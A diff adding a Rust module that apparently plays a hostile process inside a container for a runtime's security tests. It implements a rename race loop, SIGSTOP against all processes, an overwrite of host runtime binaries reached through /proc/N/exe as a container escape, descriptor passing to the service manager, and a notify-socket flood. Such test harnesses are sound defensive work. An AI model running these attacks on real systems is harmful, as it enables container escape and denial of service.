@@ -1,0 +1,121 @@
+//! What a hostile process does in a container.
+
+use super::prowl;
+use crate::{json, sys};
+use nix::fcntl::{AT_FDCWD, OFlag, RenameFlags, open, renameat2};
+use nix::sys::socket::{ControlMessage, MsgFlags, UnixAddr, sendmsg};
+use nix::sys::stat::Mode;
+use std::fs::{self, OpenOptions};
+use std::io::{IoSlice, Write};
+use std::os::fd::AsRawFd;
+use std::os::unix::fs::PermissionsExt;
+use std::os::unix::net::UnixDatagram;
+use std::time::{Duration, Instant};
+
+/// Does one action, mostly for ever; `false` for a word of others.
+pub(super) fn act(name: &str, args: &[&str]) -> bool {
+    let arg = |n: usize| args.get(n).copied().unwrap_or("");
+    match name {
+        "swing" => swing(arg(0), arg(1), arg(2) == "exchange"),
+        "prowl" => prowl::prowl(arg(0), u64::from_str_radix(arg(1), 16).unwrap_or(0)),
+        "stop" => stop_all(),
+        "grab" => grab(),
+        "barrier" => barrier(),
+        "flood" => flood(arg(0).parse().unwrap_or(1)),
+        _ => return false,
+    }
+    true
+}
+
+/// Renames `a` to `b` and back, or exchanges the two, for ever. How long each state lasts differs, so that
+/// whatever another process does meets every moment of it.
+fn swing(a: &str, b: &str, exchange: bool) {
+    let flags = if exchange { RenameFlags::RENAME_EXCHANGE } else { RenameFlags::empty() };
+    println!("{}", json!({"ready": true}));
+    let mut dice = 0x2545_f491u64 ^ u64::from(std::process::id());
+    loop {
+        for (from, to) in [(a, b), (b, a)] {
+            // What the victim has made in the meantime is in the way once: it is empty.
+            let _ = renameat2(AT_FDCWD, from, AT_FDCWD, to, flags);
+            dice ^= dice << 13;
+            dice ^= dice >> 7;
+            dice ^= dice << 17;
+            let until = Instant::now() + Duration::from_micros(dice % 200);
+            while Instant::now() < until {
+                std::hint::spin_loop();
+            }
+        }
+    }
+}
+
+/// Stops every other process that it can see, again and again.
+fn stop_all() {
+    println!("{}", json!({"ready": true}));
+    loop {
+        sys::kill(-1, libc::SIGSTOP);
+    }
+}
+
+/// Keeps the executable file of each process that joins this container, and once that one is gone makes it
+/// writable and writes to it: `/proc/N/exe` of a runtime that is a file of the host's.
+fn grab() {
+    println!("{}", json!({"ready": true}));
+    let own = exe("self");
+    let mut pid = std::process::id() as i32 + 1;
+    let mut idle = 0;
+    loop {
+        let found =
+            (pid..pid + 4).find(|next| ![own.as_str(), ""].contains(&exe(&next.to_string()).as_str()));
+        if let Some(next) = found {
+            keep_and_write(next);
+            (pid, idle) = (next + 1, 0);
+        }
+        idle += 1;
+        if idle > 2000 {
+            let text = fs::read_to_string("/proc/loadavg").unwrap_or_default();
+            let last = text.split_whitespace().last().and_then(|number| number.parse::<i32>().ok());
+            (pid, idle) = (last.unwrap_or(pid) + 1, 0);
+        }
+    }
+}
+
+fn keep_and_write(pid: i32) {
+    let (link, path) = (exe(&pid.to_string()), format!("/proc/{pid}/exe"));
+    let Ok(kept) = open(path.as_str(), OFlag::O_PATH | OFlag::O_CLOEXEC, Mode::empty()) else { return };
+    // It is executed no more when the process has gone on to something else.
+    while exe(&pid.to_string()) == link {
+        std::hint::spin_loop();
+    }
+    let again = format!("/proc/self/fd/{}", kept.as_raw_fd());
+    let _ = fs::set_permissions(&again, fs::Permissions::from_mode(0o777));
+    let written = OpenOptions::new().write(true).open(&again).and_then(|mut file| file.write_all(b"#"));
+    let errno = written.as_ref().err().and_then(std::io::Error::raw_os_error).unwrap_or(0);
+    println!("{}", json!({"had": link, "written": written.is_ok(), "errno": errno}));
+}
+
+fn exe(process: &str) -> String {
+    fs::read_link(format!("/proc/{process}/exe"))
+        .map(|link| link.to_string_lossy().into_owned())
+        .unwrap_or_default()
+}
+
+/// Hands the service manager a descriptor, with the one message that is known to carry some.
+fn barrier() {
+    let to = std::env::var("NOTIFY_SOCKET").unwrap_or_default();
+    let socket = UnixDatagram::unbound().unwrap();
+    let file = fs::File::open("/probe").unwrap();
+    let fds = [file.as_raw_fd()];
+    let (text, control) = ([IoSlice::new(b"BARRIER=1")], [ControlMessage::ScmRights(&fds)]);
+    let sent = UnixAddr::new(to.as_str())
+        .and_then(|to| sendmsg(socket.as_raw_fd(), &text, &control, MsgFlags::empty(), Some(&to)));
+    println!("{}", json!({"sent": sent.is_ok()}));
+}
+
+/// Tells the service manager this much, as fast as it is taken.
+fn flood(count: usize) {
+    let to = std::env::var("NOTIFY_SOCKET").unwrap_or_default();
+    let socket = UnixDatagram::unbound().unwrap();
+    let text = format!("STATUS={}", "x".repeat(4000));
+    let sent = (0..count).take_while(|_| socket.send_to(text.as_bytes(), &to).is_ok()).count();
+    println!("{}", json!({"sent": sent}));
+}
